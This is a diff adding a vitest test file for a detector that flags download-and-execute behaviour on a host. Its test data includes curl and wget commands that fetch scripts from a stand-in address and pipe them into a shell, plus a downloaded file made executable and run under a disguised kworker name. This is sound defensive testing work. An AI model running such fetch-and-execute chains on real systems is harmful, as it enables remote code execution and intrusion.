@@ -1,0 +1,75 @@
+import { beforeEach, describe, expect, it } from 'vitest';
+import { DownloadExecuteDetector } from '../../runtime/detectors/download-execute.ts';
+import type { Process } from '../../runtime/processes.ts';
+import { sampleProcess } from './sample-process.ts';
+
+const URL = 'http://192.0.2.1/x.sh';
+const SECOND = 1e9;
+
+let detector: DownloadExecuteDetector;
+let shell: Process;
+beforeEach(() => {
+  detector = new DownloadExecuteDetector();
+  shell = sampleProcess(['sh', '-c', '...'], { parent: sampleProcess(['nginx']) });
+});
+
+const run = (argv: string[], at = 0, exe?: string, parent = shell) =>
+  detector.executed(sampleProcess(argv, { parent, ...(exe ? { exe } : {}) }), at * SECOND);
+
+describe('DownloadExecuteDetector', () => {
+  it.each([
+    ['curl', ['curl', '-fsSL', URL]],
+    ['wget to standard output', ['wget', '-qO-', URL]],
+    ['wget, written apart', ['wget', '-q', '-O', '-', URL]],
+  ])('sees a download piped into a shell: %s', (_, download) => {
+    expect(run(download)).toBeUndefined();
+    expect(run(['sh'], 0.01)).toMatchObject({
+      findings: [{ rule: 'remote-script' }],
+      evidence: { download: URL },
+    });
+  });
+
+  it('sees it when the shell started first, as either side of a pipe may', () => {
+    expect(run(['bash', '-s'])).toBeUndefined();
+    expect(run(['curl', URL], 0.01)?.process.image.argv).toEqual(['bash', '-s']);
+  });
+
+  it.each([
+    ['curl -o', ['curl', '-o', '/tmp/k', URL]],
+    ['curl -so', ['curl', '-so', '/tmp/k', URL]],
+    ['curl --output=', ['curl', '--output=/tmp/k', URL]],
+    ['curl -O', ['curl', '-O', 'http://192.0.2.1/k?token=secret']],
+    ['wget', ['wget', 'http://192.0.2.1/a/k']],
+    ['wget -O', ['wget', '-O', '/tmp/k', URL]],
+    ['busybox wget', ['busybox', 'wget', '-O', '/tmp/k', URL]],
+  ])('sees a downloaded file that is run, by itself or by an interpreter: %s', (_, download) => {
+    expect(run(download)).toBeUndefined();
+    expect(run(['chmod', '+x', '/tmp/k'], 1)).toBeUndefined();
+    expect(run(['[kworker]'], 2, '/tmp/k')?.findings).toMatchObject([{ rule: 'remote-script' }]);
+    expect(run(['sh', '/tmp/k'], 2)?.findings).toMatchObject([{ rule: 'remote-script' }]);
+  });
+
+  it('sees it when a script of the same tree did the download', () => {
+    const script = sampleProcess(['sh', 'get.sh'], { parent: shell });
+    expect(run(['curl', '-o', 'k', URL], 0, undefined, script)).toBeUndefined();
+    expect(run(['k'], 1, '/tmp/k')).toBeDefined();
+  });
+
+  it('says nothing when too much time passed, or another tree runs something of that name', () => {
+    run(['curl', '-o', '/tmp/k', URL]);
+    expect(run(['k'], 11, '/tmp/k')).toBeUndefined();
+    expect(run(['k'], 1, '/tmp/k', sampleProcess(['sh']))).toBeUndefined();
+  });
+
+  it('says nothing about a download beside other work', () => {
+    run(['curl', '-o', '/tmp/data.json', URL]);
+    expect(run(['jq', '.', '/tmp/data.json'], 1)).toBeUndefined();
+    expect(run(['sh', '-c', 'true'], 1)).toBeUndefined();
+    expect(run(['sh', '/usr/local/bin/report.sh'], 1)).toBeUndefined();
+  });
+
+  it('keeps passwords and query strings out of the report', () => {
+    run(['curl', '-o', '/tmp/k', 'https://me:secret@192.0.2.1/k?sig=secret']);
+    expect(JSON.stringify(run(['k'], 1, '/tmp/k'))).not.toMatch(/me:|sig=/);
+  });
+});
